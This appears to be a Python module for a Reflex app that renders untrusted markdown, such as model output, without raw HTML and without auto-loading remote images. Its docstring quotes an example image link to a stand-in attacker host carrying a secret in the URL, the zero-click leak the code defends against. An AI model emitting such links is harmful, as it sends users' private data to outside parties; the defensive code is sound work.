"""Markdown for untrusted text (model output, imports): no raw HTML, and no remote image loads by itself.

A reply like `![](https://evil.example/?d=<secret>)` would make the browser fetch that URL the moment it
renders, leaking data without a click. Images load only from the page's own origin (the app's files);
any other image is shown as a link the member can choose to open.
"""

from __future__ import annotations

from typing import Any

import reflex as rx
from reflex_base.vars.base import Var
from reflex_base.vars.sequence import LiteralArrayVar
from reflex_components_markdown.markdown import Markdown

# react-markdown calls this for every <img>. `jsx` is in scope in every compiled page (from @emotion/react).
_IMG = """(({node, src, alt, title}) => {
  let url = null;
  try { url = new URL(src, window.location.href); } catch (e) { url = null; }
  if (url && url.origin === window.location.origin) {
    return jsx("img", {src: url.href, alt: alt || "", title: title, className: "solo-md-img"});
  }
  return jsx("a", {href: src, target: "_blank", rel: "noopener noreferrer nofollow",
    className: "solo-md-image-link", title: "Remote image (not loaded): " + src},
    "Image: " + (alt || src));
})"""


class SafeMarkdown(Markdown):
    """react-markdown with our <img> rule added to the component map."""

    def format_component_map(self) -> dict[str, Var]:
        components = super().format_component_map()
        components["img"] = Var(_js_expr=_IMG)
        return components

    def _get_component_map_name(self) -> str:
        # Not the name a plain rx.markdown with the same map would use: the two functions differ.
        return f"SafeComponentMap_{self.component_map_hash}"


def _code_block(value: object, **props: object) -> rx.Component:
    return rx.code_block(value, can_copy=True, wrap_long_lines=True, margin_y="0.75em", **props)


def safe_markdown(text: rx.Var, **props: Any) -> rx.Component:
    """What `rx.markdown` builds (GFM, math), minus raw HTML (rehype-raw would render the text's HTML),
    with the image rule above."""
    plugin = rx.markdown.plugin
    inner = SafeMarkdown.create(
        text,
        component_map={"pre": _code_block},
        remark_plugins=LiteralArrayVar.create([plugin.math, plugin.gfm]).to(list),
        rehype_plugins=LiteralArrayVar.create([plugin.katex, plugin.unwrap_images]).to(list),
    )
    return rx.box(inner, class_name="solo-md", **props)
